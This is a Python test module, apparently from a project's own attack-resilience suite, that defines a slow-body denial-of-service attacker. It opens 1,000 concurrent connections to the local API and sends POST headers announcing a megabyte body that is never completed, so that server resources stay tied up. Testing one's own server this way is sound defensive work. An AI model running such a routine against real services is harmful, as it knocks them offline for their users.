"""Requests to the API whose bodies are announced, begun, and not sent."""

import asyncio
from contextlib import suppress

from tests.attack import wire
from tests.attack.attacker import Attacker, Tally, Target

_SOCKETS = 1_000
_DIALLING = 50
_ANNOUNCED = 1_000_000


async def attack(target: Target, tally: Tally) -> None:
    """Keep so many open, with a login that is anybody's and a body that is nearly there."""
    head = (
        "POST /api/v1/installer/charge-points HTTP/1.1\r\nHost: x\r\n"
        f"Authorization: Bearer {target.token}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {_ANNOUNCED}\r\n\r\n"
    ).encode()
    dialling = asyncio.Semaphore(_DIALLING)

    async def slow() -> None:
        while True:
            with suppress(OSError):
                async with dialling:
                    reader, writer = await asyncio.open_connection(
                        "127.0.0.1", target.api_port, local_addr=(wire.ELSEWHERE, 0)
                    )
                    writer.write(head + b" " * (_ANNOUNCED - 1))
                try:
                    tally.did()
                    await reader.read()
                    tally.lost()
                finally:
                    writer.transport.abort()
            await asyncio.sleep(0)

    async with asyncio.TaskGroup() as group:
        for _ in range(_SOCKETS):
            group.create_task(slow())


ATTACKER = Attacker(
    name="api-slow-bodies",
    about=f"{_SOCKETS:,} bodies to the API that stop before their end",
    unit="requests",
    attack=attack,
    api_budget=256 * (1 << 20),
)
